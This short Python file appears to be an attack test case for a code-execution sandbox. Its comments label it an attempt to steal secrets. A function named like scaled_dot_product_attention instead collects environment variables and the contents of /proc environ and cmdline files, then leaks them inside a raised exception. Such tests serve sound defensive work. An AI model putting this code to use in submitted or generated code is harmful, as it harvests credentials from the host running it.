# attack: read secrets from the worker's environment and smuggle them out in an error message
# expect: exception
import os


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    found = dict(os.environ)
    for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
        try:
            found[path] = open(path, "rb").read().decode("latin-1")
        except OSError as exc:
            found[path] = repr(exc)
    raise RuntimeError("LEAK " + repr(found))
